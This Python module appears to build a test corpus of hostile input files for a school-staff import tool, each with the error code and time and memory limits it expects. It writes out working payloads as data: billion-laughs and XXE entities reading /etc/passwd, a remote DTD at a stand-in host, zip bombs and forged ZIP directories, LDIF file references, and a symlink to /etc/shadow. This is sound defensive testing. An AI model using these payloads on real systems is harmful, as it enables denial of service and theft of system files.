"""The hostile files of promises T6 to T15, made when they are needed: each with the answer that is promised, in seconds and memory.

Nothing here is downloaded or kept: a file is a few lines that make it, so that what it does can be read.
"""

from __future__ import annotations

import os
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MB = 1 << 20
FEW = 200
"""Megabytes that a refusal may cost above the file itself; a child has its own hard limit."""
CHILD = 600


@dataclass(frozen=True)
class Hostile:
    """One file. threat: number in the promises; name: its file, whose ending tells the reader; layout: what it claims to be; make: writes
    it at a path; answer: the fault that is promised, or `ok` when it is harmless; seconds, megabytes: what reading it may cost, children
    included; is_heavy: made and read in the long proofs only."""

    threat: str
    title: str
    name: str
    layout: str
    make: Callable[[Path], object]
    answer: str
    seconds: float = 1.0
    megabytes: int = FEW
    is_heavy: bool = False


JSON_LAYOUT = """
product = "proef"
title = { nl = "Proef met JSON", en = "Trial of JSON" }
role = "system"
formats = ["json"]
records = { path = "items", count = "total" }
[headers]
id = { required = true, filled = true }
name = {}
role = {}
[[tables]]
table = "accounts"
key = ["account"]
[tables.columns]
system = { option = "system", constant = "proef" }
account = "id"
username = "name"
kind = { constant = "person" }
status = { constant = "enabled" }
"""
XML_LAYOUT = """
product = "proef"
title = { nl = "Proef met XML", en = "Trial of XML" }
role = "system"
formats = ["xml"]
records = { path = "staff/person" }
[headers]
"@id" = { required = true, filled = true }
name = {}
[[tables]]
table = "accounts"
key = ["account"]
[tables.columns]
system = { option = "system", constant = "proef" }
account = "@id"
username = "name"
kind = { constant = "person" }
status = { constant = "enabled" }
"""
OWN_LAYOUTS = {"trial-json": JSON_LAYOUT, "trial-xml": XML_LAYOUT}
"""Layouts of our own for JSON and XML, so that this corpus stands apart from what is shipped."""

SHEET = "xl/worksheets/sheet1.xml"
CSV_HEAD = b"Medewerker-id;Gebruikersnaam;BRIN;Rol\n"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006"
_SHEET_HEAD = f'<worksheet xmlns="{_MAIN}/main"><sheetData>'.encode()
_SHEET_TAIL = b"</sheetData></worksheet>"
_BOOK = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>",
    "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook xmlns="{_MAIN}/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="overzicht" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/><Relationship Id="rId2" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    "xl/sharedStrings.xml": f'<sst xmlns="{_MAIN}/main"><si><t>x</t></si></sst>',
}


def cell(where: str, text: str) -> str:
    """Given a place and a text, return the XML of that cell."""
    return f'<c r="{where}" t="inlineStr"><is><t>{text}</t></is></c>'


HEAD_ROW = f'<row r="1">{cell("A1", "Medewerker-id")}{cell("B1", "Gebruikersnaam")}{cell("C1", "BRIN")}{cell("D1", "Rol")}</row>'


def workbook(path: Path, sheet: bytes, how: int = zipfile.ZIP_DEFLATED, **members: bytes) -> None:
    """Given a path and the XML of its sheet, write a workbook there; `members` replace what else is in it, a slash written as __."""
    replaced = {name.replace("__", "/") + ".xml": content for name, content in members.items()}
    with zipfile.ZipFile(path, "w", how, compresslevel=1) as archive:
        for name, content in {**_BOOK, SHEET: sheet, **replaced}.items():
            archive.writestr(name, content)


def rows_of_sheet(rows: str) -> bytes:
    """Given the XML of rows, return a sheet that holds them under the header."""
    return _SHEET_HEAD + HEAD_ROW.encode() + rows.encode() + _SHEET_TAIL


def text(content: str | bytes) -> Callable[[Path], object]:
    """Given what a file holds, return what writes it."""
    return lambda path: path.write_bytes(content.encode() if isinstance(content, str) else content)


def lazily(content: Callable[[], bytes]) -> Callable[[Path], object]:
    """Given what makes the content, return what writes it: for files too large to be kept in memory."""
    return lambda path: path.write_bytes(content())


def sheet(rows: Callable[[], str], how: int = zipfile.ZIP_DEFLATED) -> Callable[[Path], object]:
    """Given what makes the rows, return what writes their workbook."""
    return lambda path: workbook(path, rows_of_sheet(rows()), how)


def entity(prolog: str, encoding: str = "utf-8") -> bytes:
    """Given a document type, return an XML file of staff that has it."""
    return f'<?xml version="1.0" encoding="{encoding}"?>{prolog}<staff><person id="1"><name>&e;</name></person></staff>'.encode(encoding)


LAUGHS = "<!DOCTYPE staff [<!ENTITY a0 \"ha\">" + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + '<!ENTITY e "&a9;">]>'
QUADRATIC = '<!DOCTYPE staff [<!ENTITY a "' + "x" * 50_000 + '"><!ENTITY e "' + "&a;" * 20_000 + '">]>'
EXTERNAL = '<!DOCTYPE staff [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE staff SYSTEM "http://198.51.100.7/evil.dtd">'
PARAMETER = '<!DOCTYPE staff [<!ENTITY % p SYSTEM "file:///etc/passwd"><!ENTITY % q "<!ENTITY e \'%p;\'>">%q;]>'


def big_shared_strings(path: Path, size: int) -> None:
    """Write a workbook of which one string unpacks to `size` bytes."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, content in {**_BOOK, SHEET: rows_of_sheet("").decode()}.items():
            if name != "xl/sharedStrings.xml":
                archive.writestr(name, content)
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as member:
            member.write(f'<sst xmlns="{_MAIN}/main"><si><t>'.encode())
            for _ in range(size // MB):
                member.write(b"x" * MB)
            member.write(b"</t></si></sst>")


def many_strings(path: Path, count: int, how: int) -> None:
    """Write a workbook with so many shared strings of nothing."""
    strings = f'<sst xmlns="{_MAIN}/main">'.encode() + b"<si><t/></si>" * count + b"</sst>"
    workbook(path, rows_of_sheet(""), how, xl__sharedStrings=strings)


def lying(path: Path, at: int, size: int) -> None:
    """Write a workbook whose table of contents says that the sheet packs (20) or unpacks (24) to `size` bytes."""
    workbook(path, rows_of_sheet("".join(f'<row r="{n}">{cell(f"A{n}", str(n))}</row>' for n in range(2, 400))))
    data = bytearray(path.read_bytes())
    entry = data.rfind(b"PK\x01\x02", 0, data.rfind(SHEET.encode()))
    data[entry + at:entry + at + 4] = struct.pack("<I", size)
    path.write_bytes(bytes(data))


def misplaced(path: Path) -> None:
    """Write a workbook whose end says that the table of contents begins eight bytes later than it does: every member then begins before
    where it is, the first before the file."""
    workbook(path, rows_of_sheet(""))
    data = bytearray(path.read_bytes())
    end = data.rfind(b"PK\x05\x06")
    data[end + 16:end + 20] = struct.pack("<I", struct.unpack("<I", data[end + 16:end + 20])[0] + 8)
    path.write_bytes(bytes(data))


def overlapping(path: Path, copies: int) -> None:
    """Write a workbook whose table of contents names one packed member over and over: nothing in the file is large, all together is."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in _BOOK.items():
            archive.writestr(name, content)
        archive.writestr(SHEET, rows_of_sheet("") + b"\n" * (900 << 10))
    data = path.read_bytes()
    end = data.rfind(b"PK\x05\x06")
    start = struct.unpack("<I", data[end + 16:end + 20])[0]
    entry = data.rfind(b"PK\x01\x02", 0, end)
    again = b"".join(data[entry:end].replace(b"sheet1.xml", b"sheet%c.xml" % (66 + n % 20)) for n in range(copies))
    directory = data[start:end] + again
    count = struct.unpack("<H", data[end + 10:end + 12])[0] + copies
    tail = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), start, 0)
    path.write_bytes(data[:start] + directory + tail)


def nested_json(depth: int) -> bytes:
    """Records with one value so many lists deep."""
    return b'{"items":[{"id":"1","name":' + b"[" * depth + b"]" * depth + b"}]}"


def many_keys(count: int) -> bytes:
    """A record of so many keys, the last of which stands there twice."""
    keys = ",".join(f'"k{n}":1' for n in range(count))
    return f'{{"items":[{{"id":"1",{keys},"k{count - 1}":2}}]}}'.encode()


def ldif(body: str | bytes) -> bytes:
    """An entry of a directory, with these lines added."""
    more = body.encode() if isinstance(body, str) else body
    return (b"dn: CN=a,DC=school,DC=test\nobjectClass: user\nsAMAccountName: a\nuserAccountControl: 512\n"
            b"objectGUID:: EBESExQVFhcYGRobHB0eHw==\n" + more + b"\n\n")


CORPUS: tuple[Hostile, ...] = (
    # T6: document types and entities
    Hostile("T6", "billion laughs", "laughs.xml", "trial-xml", text(entity(LAUGHS)), "xml_doctype"),
    Hostile("T6", "quadratic blow-up", "quadratic.xml", "trial-xml", text(entity(QUADRATIC)), "xml_doctype"),
    Hostile("T6", "entity of file:///etc/passwd", "external.xml", "trial-xml", text(entity(EXTERNAL)), "xml_doctype"),
    Hostile("T6", "document type over http", "remote.xml", "trial-xml", text(entity(REMOTE)), "xml_doctype"),
    Hostile("T6", "parameter entities", "parameter.xml", "trial-xml", text(entity(PARAMETER)), "xml_doctype"),
    Hostile("T6", "billion laughs in UTF-16", "utf16.xml", "trial-xml", text(entity(LAUGHS, "utf-16")), "xml_doctype"),
    Hostile("T6", "billion laughs in a workbook", "laughs.xlsx", "parnassys-overview",
            lambda path: workbook(path, LAUGHS.encode() + rows_of_sheet("")), "xlsx_doctype"),
    Hostile("T6", "the same in UTF-16", "utf16.xlsx", "parnassys-overview",
            lambda path: workbook(path, ('<?xml version="1.0" encoding="utf-16"?>' + LAUGHS + rows_of_sheet("").decode()).encode("utf-16")),
            "xlsx_doctype"),
    Hostile("T6", "an encoding nobody knows", "utf7.xml", "trial-xml",
            text('<?xml version="1.0" encoding="utf-7"?><staff><person id="1"/></staff>'), "records_damaged"),
    # T7: floods without a document type
    Hostile("T7", "text node of 60 MB", "text60.xml", "trial-xml",
            lazily(lambda: b'<staff><person id="1"><name>' + b"x" * (60 * MB) + b"</name></person></staff>"), "file_too_large", is_heavy=True),
    Hostile("T7", "text node of 40 MB", "text40.xml", "trial-xml",
            lazily(lambda: b'<staff><person id="1"><name>' + b"x" * (40 * MB) + b"</name></person></staff>"), "records_cell_too_large",
            2, CHILD, is_heavy=True),
    Hostile("T7", "attribute of 40 MB", "attribute40.xml", "trial-xml",
            lazily(lambda: b'<staff><person id="' + b"x" * (40 * MB) + b'"/></staff>'), "records_cell_too_large", 10, CHILD, is_heavy=True),
    Hostile("T7", "comment of 40 MB", "comment40.xml", "trial-xml",
            lazily(lambda: b"<staff><!--" + b"x" * (40 * MB) + b'--><person id="1"/></staff>'), "ok", 10, CHILD, is_heavy=True),
    Hostile("T7", "200,000 levels", "levels.xml", "trial-xml", text("<staff>" + "<a>" * 200_000 + "</a>" * 200_000 + "</staff>"),
            "records_too_deep"),
    Hostile("T7", "200,000 attributes", "attributes.xml", "trial-xml",
            lazily(lambda: ("<staff><person " + " ".join(f'a{n}="1"' for n in range(200_000)) + "/></staff>").encode()),
            "xml_many_attributes", 3, CHILD),
    Hostile("T7", "namespaces without end", "namespaces.xml", "trial-xml",
            lazily(lambda: ("<staff " + " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(50_000)) + '><person id="1"/></staff>').encode()),
            "ok", 5, CHILD),
    Hostile("T7", "200,000 levels in a workbook", "levels.xlsx", "parnassys-overview",
            sheet(lambda: "<row>" + "<a>" * 200_000 + "</a>" * 200_000 + "</row>", zipfile.ZIP_STORED), "csv_no_rows", 10, CHILD),
    Hostile("T7", "cell of 60 MB in a workbook", "text60.xlsx", "parnassys-overview",
            sheet(lambda: f'<row r="2">{cell("A2", "x" * (60 * MB))}</row>', zipfile.ZIP_STORED), "xlsx_cell_too_large", 10, CHILD,
            is_heavy=True),
    # T8: bombs
    Hostile("T8", "string that unpacks to 150 MB", "bomb150.xlsx", "parnassys-overview", lambda path: big_shared_strings(path, 150 * MB),
            "xlsx_too_large"),
    Hostile("T8", "string that unpacks to 2 GB", "bomb2000.xlsx", "parnassys-overview", lambda path: big_shared_strings(path, 2000 * MB),
            "xlsx_too_large", is_heavy=True),
    Hostile("T8", "30 M strings of nothing", "strings30.xlsx", "parnassys-overview",
            lambda path: many_strings(path, 30_000_000, zipfile.ZIP_DEFLATED), "xlsx_too_large", is_heavy=True),
    Hostile("T8", "7 M strings that the guard lets pass", "strings7.xlsx", "parnassys-overview",
            lambda path: many_strings(path, 7_000_000, zipfile.ZIP_STORED), "xlsx_too_costly", 125, CHILD, is_heavy=True),
    Hostile("T8", "ratio of a thousand", "ratio.xlsx", "parnassys-overview",
            lambda path: workbook(path, rows_of_sheet("") + b"\n" * (60 * MB)), "xlsx_ratio"),
    Hostile("T8", "table of contents that says less", "lies-small.xlsx", "parnassys-overview", lambda path: lying(path, 24, 50),
            "xlsx_damaged", 5, CHILD),
    Hostile("T8", "table of contents that says 2 GB", "lies-large.xlsx", "parnassys-overview", lambda path: lying(path, 24, 2 << 30),
            "xlsx_too_large"),
    Hostile("T8", "packed size that lies", "lies-packed.xlsx", "parnassys-overview", lambda path: lying(path, 20, 10), "xlsx_damaged", 5, CHILD),
    Hostile("T8", "one member named 150 times", "overlap.xlsx", "parnassys-overview", lambda path: overlapping(path, 150), "xlsx_damaged",
            5, CHILD),
    Hostile("T8", "one member named 5,000 times", "overlap5000.xlsx", "parnassys-overview", lambda path: overlapping(path, 5_000),
            "xlsx_many_members"),
    # T9, T10: grids and entities in cells
    Hostile("T8", "a member that begins before the file", "before.xlsx", "parnassys-overview", misplaced, "xlsx_damaged", 5, CHILD),
    Hostile("T8", "a member packed by LZMA", "lzma.xlsx", "parnassys-overview",
            lambda path: workbook(path, rows_of_sheet(""), zipfile.ZIP_LZMA), "xlsx_damaged"),
    Hostile("T9", "A1 and XFD1048576", "sparse.xlsx", "parnassys-overview",
            sheet(lambda: f'<row r="1048576">{cell("XFD1048576", "x")}</row>'), "xlsx_many_rows", 30, CHILD),
    Hostile("T9", "a row at 16,384 columns", "wide.xlsx", "parnassys-overview", sheet(lambda: f'<row r="2">{cell("XFD2", "x")}</row>'),
            "xlsx_many_columns", 5, CHILD),
    Hostile("T9", "a row number beyond any sheet", "far.xlsx", "parnassys-overview",
            sheet(lambda: f'<row r="999999999999">{cell("A999999999999", "x")}</row>'), "xlsx_many_rows", 30, CHILD),
    Hostile("T9", "20 M empty cells", "cells.xlsx", "parnassys-overview",
            sheet(lambda: "".join("<row>" + "<c/>" * 250 + "</row>" for _ in range(80_000)), zipfile.ZIP_STORED), "xlsx_too_costly", 125, CHILD,
            is_heavy=True),
    Hostile("T10", "undeclared entity in a cell", "entity.xlsx", "parnassys-overview",
            sheet(lambda: f'<row r="2">{cell("A2", "&e;")}</row>'), "xlsx_damaged", 5, CHILD),
    # T11, T12, T13: shifted, corrupted, mixed
    Hostile("T11", "two fields more in row 1", "shift.csv", "parnassys-overview", text(CSV_HEAD + b"1;a;99AA00;Leerkracht;x;y\n2;b;99AA00;IB\n"),
            "csv_field_count"),
    Hostile("T11", "two fields fewer in the last row", "short.csv", "parnassys-overview", text(CSV_HEAD + b"1;a;99AA00;Leerkracht\n2;b\n"),
            "csv_field_count"),
    Hostile("T11", "100,000 columns", "columns.csv", "parnassys-overview",
            lazily(lambda: (";".join(f"k{n}" for n in range(100_000)) + "\n").encode() * 2), "csv_many_columns"),
    Hostile("T11", "cell of 10 MB", "cell.csv", "parnassys-overview", lazily(lambda: CSV_HEAD + b"1;" + b"x" * (10 * MB) + b";99AA00;IB\n"),
            "csv_field_too_large"),
    Hostile("T11", "10 MB of lines within quotes", "quoted.csv", "parnassys-overview",
            lazily(lambda: CSV_HEAD + b'1;"' + b"x\n" * (5 * MB) + b'";99AA00;IB\n'), "csv_field_too_large", 3),
    Hostile("T11", "quote that never closes", "open.csv", "parnassys-overview", text(CSV_HEAD + b'1;"a;99AA00;IB\n' + b"2;b;99AA00;IB\n" * 1000),
            "csv_quote_open"),
    Hostile("T11", "60 MB of line ends", "newlines.csv", "parnassys-overview", lazily(lambda: CSV_HEAD + b"\n" * (60 * MB)), "csv_no_rows", 5,
            400, is_heavy=True),
    Hostile("T11", "60 MB of delimiters", "delimiters.csv", "parnassys-overview", lazily(lambda: CSV_HEAD + b";" * (60 * MB) + b"\n"),
            "csv_many_columns", 5, 300, is_heavy=True),
    Hostile("T11", "60 MB of quotes", "quotes.csv", "parnassys-overview", lazily(lambda: CSV_HEAD + b'"' * (60 * MB) + b"\n"),
            "csv_field_too_large", 5, 300, is_heavy=True),
    Hostile("T13", "NUL in a name", "nul.csv", "parnassys-overview", text(CSV_HEAD + b"1;Jan\0sen;99AA00;IB\n"), "text_nul"),
    Hostile("T13", "tail of NULs", "tail.csv", "parnassys-overview", text(CSV_HEAD + b"1;a;99AA00;IB\n" + b"\0" * 4096), "text_nul"),
    Hostile("T13", "UTF-16 nobody declared", "utf16.csv", "parnassys-overview", text((CSV_HEAD + b"1;a;99AA00;IB\n").decode().encode("utf-16")),
            "text_utf16"),
    Hostile("T13", "UTF-8 and Windows-1252 mixed", "mixed.csv", "entra-users",
            text("Personeelsnummer;Naam\n1;Müller\n2;".encode() + "Zoë\n".encode("cp1252")), "text_undecodable"),
    Hostile("T13", "NUL in a workbook", "nul.xlsx", "parnassys-overview", sheet(lambda: f'<row r="2">{cell("A2", "a" + chr(0) + "b")}</row>'),
            "xlsx_damaged", 5, CHILD),
    Hostile("T13", "NUL escaped in JSON", "nul.json", "trial-json", text(rb'{"items":[{"id":"1","name":"Jan\u0000sen"}]}'), "records_nul", 3, CHILD),
    Hostile("T13", "half a character in JSON", "half.json", "trial-json", text(b'{"items":[{"id":"1","name":"\xe9"}]}'), "text_undecodable", 3,
            CHILD),
    Hostile("T13", "lone surrogate in JSON", "surrogate.json", "trial-json", text(rb'{"items":[{"id":"1","name":"\ud800"}]}'), "records_damaged", 3,
            CHILD),
    # T14: the wrong file
    Hostile("T14", "login page", "login.csv", "parnassys-overview", text("<!DOCTYPE html><html><form action=/login></form></html>\n"),
            "csv_is_web_page"),
    Hostile("T14", "login page for XML", "login.xml", "trial-xml", text("<!DOCTYPE html><html><form></form></html>"), "csv_is_web_page"),
    Hostile("T14", "login page for JSON", "login.json", "trial-json", text("<!DOCTYPE html><html></html>"), "csv_is_web_page"),
    Hostile("T14", "error in JSON with status 200", "error.json", "trial-json", text('{"error":{"code":"expired"}}'), "records_missing", 3, CHILD),
    Hostile("T14", "workbook named .csv", "workbook.csv", "parnassys-overview", lambda path: workbook(path, rows_of_sheet("")), "csv_is_zip"),
    Hostile("T14", "CSV named .xlsx", "text.xlsx", "parnassys-overview", text(CSV_HEAD + b"1;a;99AA00;IB\n"), "xlsx_not_a_workbook"),
    Hostile("T14", "export of another product", "other.csv", "parnassys-overview", text("Leerlingnummer;Klas\n1;3A\n"), "header_missing"),
    Hostile("T14", "header and nothing else", "header.csv", "parnassys-overview", text(CSV_HEAD), "csv_no_rows"),
    Hostile("T14", "total at the end", "total.csv", "parnassys-overview", text(CSV_HEAD + b"1;a;99AA00;IB\nTotaal;1;;\n"), "value_pattern"),
    Hostile("T14", "nothing at all", "empty.csv", "parnassys-overview", text(b""), "csv_empty"),
    Hostile("T14", "cut off in its last line", "cut.csv", "parnassys-overview", text(CSV_HEAD + b"1;a;99AA00;IB\n2;b;99A"), "csv_no_final_newline"),
    # JSON
    Hostile("T7", "1,000,000 lists in each other", "deep.json", "trial-json", lazily(lambda: nested_json(1_000_000)), "records_too_deep", 5, CHILD),
    Hostile("T7", "100 lists in each other", "deep100.json", "trial-json", text(nested_json(100)), "records_too_deep", 3, CHILD),
    Hostile("T7", "number of 5 M digits", "number.json", "trial-json",
            lazily(lambda: b'{"items":[{"id":"1","name":' + b"9" * (5 * MB) + b"}]}"), "records_cell_too_large", 5, CHILD),
    Hostile("T12", "number of 1E999999999", "exponent.json", "trial-json", text('{"items":[{"id":"1","name":1E999999999}]}'), "ok", 3, CHILD),
    Hostile("T12", "the same key twice", "twice.json", "trial-json", text('{"items":[{"id":"1","id":"2"}]}'), "json_twice", 3, CHILD),
    Hostile("T12", "the same key twice around the records", "around.json", "trial-json", text('{"items":[{"id":"1"}],"items":[]}'), "json_twice", 3,
            CHILD),
    Hostile("T12", "300,000 keys, the last one twice", "keys.json", "trial-json", lazily(lambda: many_keys(300_000)), "json_twice", 10, CHILD),
    Hostile("T12", "NaN and Infinity", "nan.json", "trial-json", text('{"items":[{"id":"1","name":NaN}]}'), "json_damaged", 3, CHILD),
    Hostile("T10", "fewer records than it says", "fewer.json", "trial-json", text('{"total":3,"items":[{"id":"1"},{"id":"2"}]}'), "records_not_all",
            3, CHILD),
    Hostile("T7", "150 MB of empty records", "records.json", "trial-json",
            lazily(lambda: b'{"items":[' + b'{"id":1},' * (17 * MB) + b'{"id":1}]}'), "records_many", 70, 1_600, is_heavy=True),
    # LDIF
    Hostile("T14", "value by address of a file", "url.ldf", "ad-ldifde", text(ldif("mail:< file:///etc/passwd")), "ldif_url"),
    Hostile("T14", "entry by address of a file", "dn-url.ldf", "ad-ldifde", text(b"dn:< file:///etc/passwd\nmail: a\n\n"), "ldif_url"),
    Hostile("T14", "line of control", "control.ldf", "ad-ldifde",
            text(b"dn: CN=a\ncontrol: 1.2.840.113556.1.4.805 true\nchangetype: delete\n\n"), "ldif_change_record"),
    Hostile("T14", "record that deletes", "delete.ldf", "ad-ldifde", text(b"dn: CN=a\nchangetype: delete\n\n"), "ldif_change_record"),
    Hostile("T13", "base64 that is none", "base64.ldf", "ad-ldifde", text(ldif("mail:: w6*k=")), "ldif_base64"),
    Hostile("T13", "base64 of no text", "bytes.ldf", "ad-ldifde", text(ldif("mail:: /////w==")), "ldif_not_text"),
    Hostile("T13", "NUL in LDIF", "nul.ldf", "ad-ldifde", text(ldif(b"mail: a\0b")), "ldif_nul"),
    Hostile("T7", "value of 10 MB", "value.ldf", "ad-ldifde", lazily(lambda: ldif(b"mail: " + b"x" * (10 * MB))), "ldif_value_too_large"),
    Hostile("T7", "10 MB folded after every character", "folded.ldf", "ad-ldifde", lazily(lambda: ldif(b"mail: a" + b"\n x" * (3 * MB))),
            "ldif_value_too_large", 5, 300),
    Hostile("T7", "one entry of 3 M lines", "lines.ldf", "ad-ldifde", lazily(lambda: ldif(b"x: a\n" * (3 * MB))), "ok", 5, 400),
    Hostile("T7", "60 MB of line ends", "newlines.ldf", "ad-ldifde", lazily(lambda: b"dn: CN=a\n" + b"\n" * (60 * MB)), "cell_empty", 3, 400,
            is_heavy=True),
)


def lay_out(root: Path, chosen: tuple[Hostile, ...]) -> None:
    """Given a folder, write these files into it and our own layouts into its folder `layouts`."""
    (root / "layouts").mkdir(parents=True, exist_ok=True)
    for name, content in OWN_LAYOUTS.items():
        (root / "layouts" / f"{name}.toml").write_text(content, encoding="utf-8")
    for one in chosen:
        one.make(root / one.name)


def tricks(root: Path) -> dict[str, str]:
    """Given a folder, put in it what is no file to be read (T15), each with the fault that is promised."""
    (root / "secret.csv").write_bytes(CSV_HEAD + b"1;a;99AA00;IB\n")
    (root / "link.csv").symlink_to(root / "secret.csv")
    (root / "shadow.csv").symlink_to("/etc/shadow")
    os.mkfifo(root / "pipe.csv")
    (root / "folder.csv").mkdir()
    return {"link.csv": "file_is_link", "shadow.csv": "file_is_link", "pipe.csv": "file_is_pipe", "folder.csv": "file_is_folder"}
